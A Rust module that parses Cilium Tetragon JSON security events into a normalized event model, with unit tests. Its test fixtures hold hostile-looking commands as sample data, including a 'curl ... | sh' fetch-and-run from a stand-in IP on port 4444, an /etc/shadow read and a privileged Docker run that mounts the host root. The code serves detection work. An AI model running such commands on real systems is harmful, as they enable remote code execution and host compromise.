//! Cilium Tetragon JSON events (`tetragon export-stdout`, the `export-filename` file).
//!
//! Each line holds one of `process_exec`, `process_exit`, `process_kprobe`,
//! `process_tracepoint` (others, such as `process_lsm`, are accepted as [`Action::Other`]),
//! with `node_name` and `time`. Each carries `process` (`pid`, `uid`, `auid`, `cwd`,
//! `binary`, `arguments` as one string without argv[0], `pod{namespace, name,
//! container{id, name, image{id, name}}, workload, workload_kind}`) and `parent`, as
//! the events documentation (`docs/content/en/docs/concepts/events.md`) and the
//! protobuf-JSON encoding write them: numbers may come as strings, fields go missing.
//!
//! - `process_exec` is a [`Action::ProcessStart`]; its argv is `binary` plus the words
//!   of `arguments` (Tetragon quotes an argument holding spaces). A container CLI
//!   (`docker run ...`) is normalized as that operation by the container CLI parser
//!   (`normalize::cli`).
//! - `process_kprobe` on a connect function (`tcp_connect`, `__sys_connect`,
//!   `security_socket_connect`, ...) with a `sock_arg` or `sockaddr_arg` is a
//!   [`Action::NetworkConnect`]; the tracing policy's name is the `reason`.
//! - `process_exit` is the exit of a process, not of a container: [`Action::Other`] with
//!   `process.exit_code` from `status`.
//!
//! The container id loses its runtime prefix (`containerd://`, `docker://`,
//! `cri-o://`) so it joins Docker's 64-hex id; the pod is the workload, owned by
//! `workload_kind/workload` when that is a controller.

use std::borrow::Cow;

use serde::Deserialize;

use crate::decode::scalar::Scalar;
use crate::decode::{DecodeError, Decoded, Decoder, Detect, Format, Keys};
use crate::model::ImageRef;
use crate::model::{
    Action, Container, Event, Network, ParentProcess, Principal, Process, Source, Workload,
};
use crate::normalize::borrowed::{Str, non_empty};
use crate::normalize::cli;
use crate::normalize::network::protocol;
use crate::normalize::text::{basename_cow as basename, join_shell, split_shell};
use crate::time::parse_rfc3339_ns;

pub(crate) const FORMAT: Format = Format {
    source: Source::Tetragon,
    logsource: ("cilium", "tetragon"),
    about: "Cilium Tetragon JSON events",
    detect: Detect {
        json: &[
            Keys::all(&["\"process_exec\":"]),
            Keys::all(&["\"process_kprobe\":"]),
            Keys::all(&["\"process_exit\":"]),
            Keys::all(&["\"process_tracepoint\":"]),
        ],
        text: None,
    },
    raw_roots: &[
        "process_exec",
        "process_exit",
        "process_kprobe",
        "process_tracepoint",
        "node_name",
        "time",
        "cluster_name",
    ],
    decode: Decoder::One(decode),
};

/// `auid` when no one logged in.
const UNSET_AUID: i64 = 4_294_967_295;

#[derive(Deserialize)]
struct RawEvent<'a> {
    #[serde(borrow)]
    process_exec: Option<RawBody<'a>>,
    #[serde(borrow)]
    process_exit: Option<RawBody<'a>>,
    #[serde(borrow)]
    process_kprobe: Option<RawBody<'a>>,
    #[serde(borrow)]
    process_tracepoint: Option<RawBody<'a>>,
    #[serde(borrow)]
    process_lsm: Option<RawBody<'a>>,
    #[serde(borrow)]
    process_uprobe: Option<RawBody<'a>>,
    #[serde(borrow)]
    node_name: Option<Str<'a>>,
    #[serde(borrow)]
    cluster_name: Option<Str<'a>>,
    #[serde(borrow)]
    time: Option<Str<'a>>,
}

/// The body of every event kind; each kind fills the fields it has.
#[derive(Deserialize)]
struct RawBody<'a> {
    #[serde(borrow)]
    process: Option<RawProcess<'a>>,
    #[serde(borrow)]
    parent: Option<RawProcess<'a>>,
    #[serde(borrow, default)]
    ancestors: Vec<RawProcess<'a>>,
    #[serde(borrow)]
    function_name: Option<Str<'a>>,
    #[serde(borrow)]
    policy_name: Option<Str<'a>>,
    #[serde(borrow, default)]
    args: Vec<RawArg<'a>>,
    #[serde(borrow)]
    subsys: Option<Str<'a>>,
    #[serde(borrow)]
    event: Option<Str<'a>>,
    /// `process_exit`: the exit status.
    #[serde(borrow, default)]
    status: Option<Scalar<'a>>,
}

#[derive(Deserialize)]
struct RawProcess<'a> {
    #[serde(borrow, default)]
    pid: Option<Scalar<'a>>,
    #[serde(borrow, default)]
    uid: Option<Scalar<'a>>,
    #[serde(borrow, default)]
    auid: Option<Scalar<'a>>,
    #[serde(borrow)]
    cwd: Option<Str<'a>>,
    #[serde(borrow)]
    binary: Option<Str<'a>>,
    #[serde(borrow)]
    arguments: Option<Str<'a>>,
    #[serde(borrow)]
    user: Option<RawUser<'a>>,
    /// The first 31 characters of the Docker container id.
    #[serde(borrow)]
    docker: Option<Str<'a>>,
    #[serde(borrow)]
    pod: Option<RawPod<'a>>,
}

#[derive(Deserialize)]
struct RawUser<'a> {
    #[serde(borrow)]
    name: Option<Str<'a>>,
}

#[derive(Deserialize)]
struct RawPod<'a> {
    #[serde(borrow)]
    namespace: Option<Str<'a>>,
    #[serde(borrow)]
    name: Option<Str<'a>>,
    #[serde(borrow)]
    container: Option<RawContainer<'a>>,
    #[serde(borrow)]
    workload: Option<Str<'a>>,
    #[serde(borrow)]
    workload_kind: Option<Str<'a>>,
}

#[derive(Deserialize)]
struct RawContainer<'a> {
    #[serde(borrow)]
    id: Option<Str<'a>>,
    #[serde(borrow)]
    name: Option<Str<'a>>,
    #[serde(borrow)]
    image: Option<RawImage<'a>>,
}

#[derive(Deserialize)]
struct RawImage<'a> {
    #[serde(borrow)]
    id: Option<Str<'a>>,
    #[serde(borrow)]
    name: Option<Str<'a>>,
}

/// One kprobe argument: only socket addresses are read.
#[derive(Deserialize)]
struct RawArg<'a> {
    #[serde(borrow)]
    sock_arg: Option<RawSock<'a>>,
    #[serde(borrow)]
    sockaddr_arg: Option<RawSockaddr<'a>>,
}

#[derive(Deserialize)]
struct RawSock<'a> {
    #[serde(borrow)]
    protocol: Option<Str<'a>>,
    #[serde(rename = "type", borrow)]
    kind: Option<Str<'a>>,
    #[serde(borrow)]
    saddr: Option<Str<'a>>,
    #[serde(borrow)]
    daddr: Option<Str<'a>>,
    #[serde(borrow, default)]
    sport: Option<Scalar<'a>>,
    #[serde(borrow, default)]
    dport: Option<Scalar<'a>>,
}

#[derive(Deserialize)]
struct RawSockaddr<'a> {
    #[serde(borrow)]
    addr: Option<Str<'a>>,
    #[serde(borrow, default)]
    port: Option<Scalar<'a>>,
}

fn number<T: TryFrom<i64>>(value: &Option<Scalar<'_>>) -> Option<T> {
    value
        .as_ref()
        .and_then(Scalar::int)
        .and_then(|n| T::try_from(n).ok())
}

fn decode(text: &str) -> Result<Decoded<'_>, DecodeError> {
    let raw: RawEvent<'_> =
        serde_json::from_str(text).map_err(|e| DecodeError::from_json(Source::Tetragon, e))?;
    let (kind, body) = [
        ("process_exec", raw.process_exec),
        ("process_kprobe", raw.process_kprobe),
        ("process_exit", raw.process_exit),
        ("process_tracepoint", raw.process_tracepoint),
        ("process_lsm", raw.process_lsm),
        ("process_uprobe", raw.process_uprobe),
    ]
    .into_iter()
    .find_map(|(kind, body)| body.map(|b| (kind, b)))
    .ok_or_else(|| {
        DecodeError::shape(
            Source::Tetragon,
            1,
            "no `process_exec`, `process_kprobe`, `process_exit` or `process_tracepoint`",
        )
    })?;

    let mut event = Event::new(Source::Tetragon, Action::Other, kind);
    event.time_ns = raw.time.as_ref().and_then(|t| parse_rfc3339_ns(&t.0));
    event.host = non_empty(raw.node_name);
    event.cluster = non_empty(raw.cluster_name);
    event.reason = non_empty(body.policy_name);

    let RawBody {
        process,
        parent,
        ancestors,
        function_name,
        args,
        subsys,
        event: tracepoint,
        status,
        ..
    } = body;
    let mut argv = Vec::new();
    if let Some(process) = process {
        let (p, pod) = read_process(process, parent, ancestors);
        argv.clone_from(&p.args);
        if let Some(login) = p.login_user.clone() {
            event.principal = Some(Principal {
                name: login,
                kind: Some(Cow::Borrowed("unix")),
                ..Principal::default()
            });
        }
        event.process = Some(p);
        if let Some(pod) = pod {
            let (workload, container) = read_pod(pod);
            event.workload = workload;
            event.containers.extend(container);
        }
    }

    match kind {
        "process_exec" => {
            event.action = Action::ProcessStart;
            cli::apply(&mut event, &argv);
        }
        "process_kprobe" => {
            let function = non_empty(function_name);
            if function.as_deref().is_some_and(|f| f.contains("connect"))
                && let Some(network) = args.into_iter().find_map(socket)
            {
                event.action = Action::NetworkConnect;
                event.network = Some(network);
            }
            if let Some(function) = function {
                event.raw_action = function;
            }
        }
        "process_exit" => {
            if let Some(p) = event.process.as_mut() {
                p.exit_code = number(&status);
            }
        }
        "process_tracepoint" => {
            if let (Some(subsys), Some(name)) = (non_empty(subsys), non_empty(tracepoint)) {
                event.raw_action = Cow::Owned(format!("{subsys}/{name}"));
            }
        }
        _ => {}
    }
    Ok(Decoded::evaluated(event))
}

/// The process, with its parent and ancestors, and its pod.
fn read_process<'a>(
    raw: RawProcess<'a>,
    parent: Option<RawProcess<'a>>,
    ancestors: Vec<RawProcess<'a>>,
) -> (Process<'a>, Option<RawPod<'a>>) {
    let binary = non_empty(raw.binary);
    let arguments = non_empty(raw.arguments);
    let mut args: Vec<Cow<'a, str>> = binary.iter().cloned().collect();
    if let Some(arguments) = &arguments {
        args.extend(split_shell(arguments));
    }
    let auid = number::<i64>(&raw.auid).filter(|a| *a != UNSET_AUID && *a >= 0);
    let process = Process {
        pid: number(&raw.pid),
        name: binary.as_ref().map(|b| basename(b)),
        command_line: (!args.is_empty()).then(|| Cow::Owned(join_shell(&args))),
        executable: binary,
        args,
        user: non_empty(raw.user.and_then(|u| u.name))
            .or_else(|| raw.uid.as_ref().and_then(Scalar::text)),
        login_user: auid.map(|a| Cow::Owned(a.to_string())),
        cwd: non_empty(raw.cwd),
        parent: parent.map(|p| {
            let binary = non_empty(p.binary);
            let arguments = non_empty(p.arguments);
            ParentProcess {
                pid: number(&p.pid),
                name: binary.as_ref().map(|b| basename(b)),
                command_line: binary.as_ref().map(|b| {
                    let mut argv = vec![b.clone()];
                    argv.extend(arguments.as_ref().map(split_shell).unwrap_or_default());
                    Cow::Owned(join_shell(&argv))
                }),
                executable: binary,
            }
        }),
        ancestors: ancestors
            .into_iter()
            .filter_map(|a| non_empty(a.binary))
            .collect(),
        ..Process::default()
    };
    let pod = raw.pod.or_else(|| {
        // A container outside Kubernetes: only the truncated Docker id.
        non_empty(raw.docker).map(|id| RawPod {
            namespace: None,
            name: None,
            container: Some(RawContainer {
                id: Some(Str(id)),
                name: None,
                image: None,
            }),
            workload: None,
            workload_kind: None,
        })
    });
    (process, pod)
}

fn read_pod(pod: RawPod<'_>) -> (Option<Workload<'_>>, Option<Container<'_>>) {
    let name = non_empty(pod.name);
    let namespace = non_empty(pod.namespace);
    let owner = match (non_empty(pod.workload_kind), non_empty(pod.workload)) {
        (Some(kind), Some(workload)) if kind != "Pod" => {
            Some(Cow::Owned(format!("{kind}/{workload}")))
        }
        _ => None,
    };
    let workload = (name.is_some() || namespace.is_some()).then_some(Workload {
        kind: Cow::Borrowed("Pod"),
        name,
        namespace,
        uid: None,
        owner,
    });
    let container = pod.container.map(|c| {
        let (image_name, image_id) = match c.image {
            Some(i) => (non_empty(i.name), non_empty(i.id)),
            None => (None, None),
        };
        Container {
            id: non_empty(c.id).map(strip_runtime),
            name: non_empty(c.name),
            image: image_name.or(image_id).map(ImageRef::lenient),
            ..Container::default()
        }
    });
    (workload, container)
}

/// The connection a socket argument describes.
fn socket(arg: RawArg<'_>) -> Option<Network<'_>> {
    if let Some(sock) = arg.sock_arg {
        let protocol = match (non_empty(sock.protocol), non_empty(sock.kind).as_deref()) {
            (Some(p), _) => protocol(p),
            (None, Some("SOCK_STREAM")) => Cow::Borrowed("tcp"),
            (None, Some("SOCK_DGRAM")) => Cow::Borrowed("udp"),
            _ => Cow::Borrowed(""),
        };
        return Some(Network {
            src_ip: non_empty(sock.saddr),
            src_port: number(&sock.sport),
            dst_ip: non_empty(sock.daddr),
            dst_port: number(&sock.dport),
            protocol: (!protocol.is_empty()).then_some(protocol),
            ..Network::default()
        });
    }
    let addr = arg.sockaddr_arg?;
    Some(Network {
        dst_ip: non_empty(addr.addr),
        dst_port: number(&addr.port),
        ..Network::default()
    })
}

/// `containerd://<64 hex>` to the bare id.
fn strip_runtime(id: Cow<'_, str>) -> Cow<'_, str> {
    match id {
        Cow::Borrowed(s) => Cow::Borrowed(s.split_once("://").map_or(s, |(_, id)| id)),
        Cow::Owned(s) => match s.split_once("://") {
            Some((_, id)) => Cow::Owned(id.to_string()),
            None => Cow::Owned(s),
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const ID: &str = "551e161c47d8ff0eb665438a7bcd5b4e3ef5a297282b40a92b7c77d6bd168eb3";

    fn decode_ok(text: &str) -> Event<'_> {
        assert_eq!(crate::decode::detect(text), Some(Source::Tetragon));
        decode(text).unwrap_or_else(|e| panic!("{e}: {text}")).event
    }

    fn exec_line() -> String {
        format!(
            r#"{{"process_exec":{{"process":{{"exec_id":"d29ya2VyLTE6MTIzNDU2Nzg5OjQyNDI=","pid":4242,"uid":0,"cwd":"/app","binary":"/bin/sh","arguments":"-c \"curl -s http://203.0.113.50:4444/x | sh\"","flags":"execve clone","start_time":"2024-05-01T10:00:00.100000000Z","auid":4294967295,"pod":{{"namespace":"shop","name":"web-5d9c-abcde","container":{{"id":"containerd://{ID}","name":"web","image":{{"id":"registry.example.com/shop/web@sha256:8b1a9953c4611296a827abf8c47804d7e6c49c6b8a3f4e2d1c0b9a8f7e6d5c4b","name":"registry.example.com/shop/web:1.4"}},"start_time":"2024-05-01T09:00:00Z","pid":12}},"pod_labels":{{"app":"web"}},"workload":"web","workload_kind":"Deployment"}},"docker":"551e161c47d8ff0eb665438a7bcd5b4","parent_exec_id":"d29ya2VyLTE6MTIzNDAwMDAwOjQyMDA=","tid":4242}},"parent":{{"pid":4200,"uid":0,"binary":"/usr/local/bin/node","arguments":"server.js","flags":"execve"}}}},"node_name":"worker-1","time":"2024-05-01T10:00:00.100000000Z"}}"#
        )
    }

    #[test]
    fn exec_in_a_pod() {
        let line = exec_line();
        let event = decode_ok(&line);
        assert_eq!(event.source, Source::Tetragon);
        assert_eq!(event.action, Action::ProcessStart);
        assert_eq!(event.raw_action, "process_exec");
        assert_eq!(event.host.as_deref(), Some("worker-1"));
        assert_eq!(event.time_ns, Some(1_714_557_600_100_000_000));
        let c = &event.containers[0];
        assert_eq!(c.id.as_deref(), Some(ID));
        assert_eq!(c.name.as_deref(), Some("web"));
        assert_eq!(c.image.as_ref().unwrap().tag.as_deref(), Some("1.4"));
        let w = event.workload.as_ref().unwrap();
        assert_eq!(w.kind, "Pod");
        assert_eq!(w.name.as_deref(), Some("web-5d9c-abcde"));
        assert_eq!(w.owner.as_deref(), Some("Deployment/web"));
        let p = event.process.as_ref().unwrap();
        assert_eq!(p.pid, Some(4242));
        assert_eq!(p.name.as_deref(), Some("sh"));
        assert_eq!(
            p.args,
            ["/bin/sh", "-c", "curl -s http://203.0.113.50:4444/x | sh"]
        );
        assert_eq!(p.user.as_deref(), Some("0"));
        assert_eq!(p.login_user, None);
        assert!(event.principal.is_none());
        let parent = p.parent.as_ref().unwrap();
        assert_eq!(parent.pid, Some(4200));
        assert_eq!(parent.name.as_deref(), Some("node"));
        assert_eq!(
            parent.command_line.as_deref(),
            Some("/usr/local/bin/node server.js")
        );
    }

    #[test]
    fn kprobe_connect() {
        let line = format!(
            r#"{{"process_kprobe":{{"process":{{"pid":"4250","uid":0,"binary":"/usr/bin/curl","arguments":"-s http://203.0.113.50:4444/x","pod":{{"namespace":"shop","name":"web-5d9c-abcde","container":{{"id":"containerd://{ID}","name":"web"}}}}}},"parent":{{"pid":4242,"binary":"/bin/sh"}},"function_name":"tcp_connect","args":[{{"sock_arg":{{"family":"AF_INET","type":"SOCK_STREAM","protocol":"IPPROTO_TCP","saddr":"10.244.1.17","daddr":"203.0.113.50","sport":43210,"dport":4444,"state":"TCP_SYN_SENT"}}}}],"action":"KPROBE_ACTION_POST","policy_name":"connect-egress","return_action":"KPROBE_ACTION_POST"}},"node_name":"worker-1","time":"2024-05-01T10:00:00.2Z"}}"#
        );
        let event = decode_ok(&line);
        assert_eq!(event.action, Action::NetworkConnect);
        assert_eq!(event.raw_action, "tcp_connect");
        assert_eq!(event.reason.as_deref(), Some("connect-egress"));
        let n = event.network.as_ref().unwrap();
        assert_eq!(n.dst_ip.as_deref(), Some("203.0.113.50"));
        assert_eq!(n.dst_port, Some(4444));
        assert_eq!(n.src_ip.as_deref(), Some("10.244.1.17"));
        assert_eq!(n.src_port, Some(43210));
        assert_eq!(n.protocol.as_deref(), Some("tcp"));
        assert_eq!(
            event.process.as_ref().unwrap().pid,
            Some(4250),
            "a string number"
        );

        let sockaddr = r#"{"process_kprobe":{"process":{"pid":1,"binary":"/x"},"function_name":"__sys_connect","args":[{"int_arg":3},{"sockaddr_arg":{"family":"AF_INET","addr":"1.2.3.4","port":53}}]},"time":"2024-05-01T10:00:00Z"}"#;
        let event = decode_ok(sockaddr);
        assert_eq!(event.action, Action::NetworkConnect);
        assert_eq!(event.network.as_ref().unwrap().dst_port, Some(53));

        let file = r#"{"process_kprobe":{"process":{"pid":1,"binary":"/x"},"function_name":"security_file_permission","args":[{"file_arg":{"path":"/etc/shadow"}},{"int_arg":4}],"policy_name":"files"}}"#;
        let event = decode_ok(file);
        assert_eq!(event.action, Action::Other);
        assert_eq!(event.raw_action, "security_file_permission");
    }

    #[test]
    fn exit_tracepoint_and_docker_cli() {
        let exit = r#"{"process_exit":{"process":{"pid":4242,"binary":"/bin/sh","docker":"551e161c47d8ff0eb665438a7bcd5b4"},"signal":"SIGKILL","status":137,"time":"2024-05-01T10:00:01Z"},"node_name":"worker-1","time":"2024-05-01T10:00:01Z"}"#;
        let event = decode_ok(exit);
        assert_eq!(event.action, Action::Other);
        assert_eq!(event.raw_action, "process_exit");
        assert_eq!(event.process.as_ref().unwrap().exit_code, Some(137));
        assert_eq!(
            event.containers[0].id.as_deref(),
            Some("551e161c47d8ff0eb665438a7bcd5b4")
        );
        assert!(event.workload.is_none());

        let tp = r#"{"process_tracepoint":{"process":{"pid":1,"binary":"/x"},"subsys":"syscalls","event":"sys_enter_ptrace","args":[]}}"#;
        assert_eq!(decode_ok(tp).raw_action, "syscalls/sys_enter_ptrace");

        let cli = r#"{"process_exec":{"process":{"pid":900,"uid":1000,"auid":1000,"binary":"/usr/bin/docker","arguments":"run --privileged -v /:/host alpine"}},"node_name":"build-1"}"#;
        let event = decode_ok(cli);
        assert_eq!(event.action, Action::ContainerRun);
        assert_eq!(event.containers[0].security.privileged, Some(true));
        assert_eq!(event.principal.as_ref().unwrap().name, "1000");
    }

    #[test]
    fn not_tetragon_is_an_error() {
        assert!(matches!(
            decode(r#"{"node_name":"x","time":"2024-05-01T10:00:00Z"}"#),
            Err(DecodeError::Shape { column: 1, .. })
        ));
        assert!(matches!(
            decode(r#"{"process_exec":{"process":{"binary":7}}}"#),
            Err(DecodeError::Shape { .. })
        ));
        assert!(matches!(
            decode(r#"{"process_exec":{"#),
            Err(DecodeError::Syntax { .. })
        ));
        // Empty bodies and missing fields are fine.
        let event = decode(r#"{"process_exec":{}}"#).unwrap().event;
        assert_eq!(event.action, Action::ProcessStart);
        assert!(event.process.is_none() && event.containers.is_empty());
    }
}
